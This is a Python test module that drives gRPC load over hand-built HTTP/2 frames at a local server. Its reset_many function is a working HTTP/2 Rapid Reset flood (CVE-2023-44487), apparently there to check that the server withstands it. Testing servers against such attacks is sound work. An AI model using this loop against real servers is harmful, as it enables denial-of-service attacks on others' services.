"""Load over gRPC from frames that are made once: some 20 µs a call, where gRPC's own client takes ten times that.

HTTP/2 (RFC 9113) as far as it needs: one kind of request, whose headers are literals (RFC 7541), flow control of what
is sent, answers told apart by whether they hold a message. Why a call was refused is for the server's metrics to tell.
As gRPC's own client does, a connection holds back what is more than the server allows at a time.
"""

import asyncio
import random
import struct
from time import perf_counter
from typing import cast

import uvloop

from tests.serve.http_load import Load

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW = 0, 1, 3, 4, 6, 7, 8
_CONNECTIONS = 8
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_MOST = 2**31 - 1  # of a window
REFUSED, BROKEN, HELD_BACK = 429, 0, -1
_STREAMS, _WINDOWS, _REFUSED_STREAM, _CANCEL = 3, 4, 7, 8  # two settings, and two errors


def opened(port: int, path: str, message: bytes, rate: float, seconds: float) -> Load:
    """Sends calls at random times, `rate` a second on average (Poisson), whether or not earlier ones are answered.

    Statuses: 200 with a message, `REFUSED` without, `BROKEN` where the stream or its connection broke, `HELD_BACK`
    where it was never sent. Seconds count from the sending.
    """
    return uvloop.run(_opened(port, path, message, rate, seconds))


def reset_many(port: int, path: str, seconds: float) -> int:
    """Opens calls over one connection and cancels each at once, as fast as the server lets it (CVE-2023-44487).

    Returns:
        How many were written, until the seconds were over or the connection closed.
    """
    return uvloop.run(_reset_many(port, path, seconds))


async def _reset_many(port: int, path: str, seconds: float) -> int:
    loop, load = asyncio.get_running_loop(), Load()
    transport, connection = await loop.create_connection(lambda: _Connection(path, b"", load), "127.0.0.1", port)
    await connection.welcome
    head, cancel, stream, until = _headers(path), struct.pack(">I", _CANCEL), 1, perf_counter() + seconds
    while perf_counter() < until and not transport.is_closing():
        if transport.get_write_buffer_size() < 1 << 16:
            calls = range(stream, stream + 100, 2)
            pairs = (_frame(_HEADERS, _END_HEADERS, at, head) + _frame(_RST, 0, at, cancel) for at in calls)
            transport.write(b"".join(pairs))
            stream = calls.stop
        await asyncio.sleep(0)  # reads, and acknowledges what the server asks
    transport.abort()
    return stream // 2


async def _opened(port: int, path: str, message: bytes, rate: float, seconds: float) -> Load:
    load, chance, loop = Load(), random.Random(0), asyncio.get_running_loop()
    found = []
    for _ in range(_CONNECTIONS):
        _, connection = await loop.create_connection(lambda: _Connection(path, message, load), "127.0.0.1", port)
        await connection.welcome
        found.append(connection)
    started = due = perf_counter()
    at = 0
    while due < started + seconds:
        if (wait := due - perf_counter()) > 0:
            await asyncio.sleep(wait)
        elif not at % 64:
            await asyncio.sleep(0)  # read, also where one is late
        found[at % _CONNECTIONS].call()
        at, due = at + 1, due + chance.expovariate(rate)
    load.wall = perf_counter() - started
    await asyncio.gather(*(connection.answered() for connection in found))
    return load


class _Connection(asyncio.Protocol):
    def __init__(self, path: str, message: bytes, load: Load) -> None:
        body = b"\0" + struct.pack(">I", len(message)) + message
        self._headers, self._body, self._load = _headers(path), body, load
        self._stream, self._window, self._streams, self._buffer = 1, 65_535, _MOST, b""
        self._sent: dict[int, float] = {}
        self._answered: set[int] = set()
        self._waiting = 0
        self._none_left, self._ending = asyncio.Event(), False
        self.welcome = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast(asyncio.Transport, transport)
        settings = struct.pack(">HI", _WINDOWS, _MOST)
        window = _frame(_WINDOW, 0, 0, struct.pack(">I", _MOST - 65_535))
        self._transport.write(_PREFACE + _frame(_SETTINGS, 0, 0, settings) + window)

    def call(self) -> None:
        """Asks, as soon as the server allows."""
        self._waiting += 1
        self._send()

    async def answered(self) -> None:
        """Gives up what is held back, and waits until all other calls have ended."""
        self._ending = True
        for _ in range(self._waiting):
            self._load.count(HELD_BACK, 0.0)
        self._waiting = 0
        if self._sent:
            await self._none_left.wait()
        self._transport.close()

    def data_received(self, data: bytes) -> None:
        buffer, at = self._buffer + data, 0
        while len(buffer) - at >= 9:
            size, kind, flags = int.from_bytes(buffer[at : at + 3]), buffer[at + 3], buffer[at + 4]
            if len(buffer) - at < 9 + size:
                break
            stream = int.from_bytes(buffer[at + 5 : at + 9]) & _MOST
            self._frame(kind, flags, stream, buffer[at + 9 : at + 9 + size])
            at += 9 + size
        self._buffer = buffer[at:]

    def connection_lost(self, exc: Exception | None) -> None:
        for stream in list(self._sent):
            self._ended(stream, BROKEN)

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _DATA:
            self._answered.add(stream)
        elif kind == _HEADERS and flags & _END_STREAM:
            self._ended(stream, 200 if stream in self._answered else REFUSED)
        elif kind == _RST and stream in self._sent and int.from_bytes(payload) == _REFUSED_STREAM:
            if self._ending:
                self._ended(stream, HELD_BACK)
            else:  # not begun: to be asked again (gRFC A6)
                del self._sent[stream]
                self._waiting += 1
                self._send()
        elif kind == _RST and stream in self._sent:
            self._ended(stream, BROKEN)
        elif kind in {_SETTINGS, _PING} and not flags & _ACK:
            if kind == _SETTINGS:
                said = dict(struct.iter_unpack(">HI", payload))
                self._streams = said.get(_STREAMS, self._streams)
                if not self.welcome.done():
                    self.welcome.set_result(None)
            self._transport.write(_frame(kind, _ACK, 0, payload if kind == _PING else b""))
        elif kind == _WINDOW and stream == 0:
            self._window += int.from_bytes(payload)
            self._send()

    def _send(self) -> None:
        while self._waiting and self._window >= len(self._body) and len(self._sent) < self._streams:
            stream, self._stream = self._stream, self._stream + 2
            self._waiting -= 1
            self._window -= len(self._body)
            self._sent[stream] = perf_counter()
            self._none_left.clear()
            head = _frame(_HEADERS, _END_HEADERS, stream, self._headers)
            self._transport.write(head + _frame(_DATA, _END_STREAM, stream, self._body))

    def _ended(self, stream: int, status: int) -> None:
        self._answered.discard(stream)
        self._load.count(status, perf_counter() - self._sent.pop(stream))
        self._send()
        if not self._sent:
            self._none_left.set()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _headers(path: str) -> bytes:
    """The headers of a call, as HPACK: numbers are places in its static table; 31 is content-type."""
    post, http = b"\x83", b"\x86"
    named = b"\x04" + _text(path) + b"\x01" + _text("127.0.0.1") + b"\x0f\x10" + _text("application/grpc")
    return post + http + named + b"\x00" + _text("te") + _text("trailers")


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()
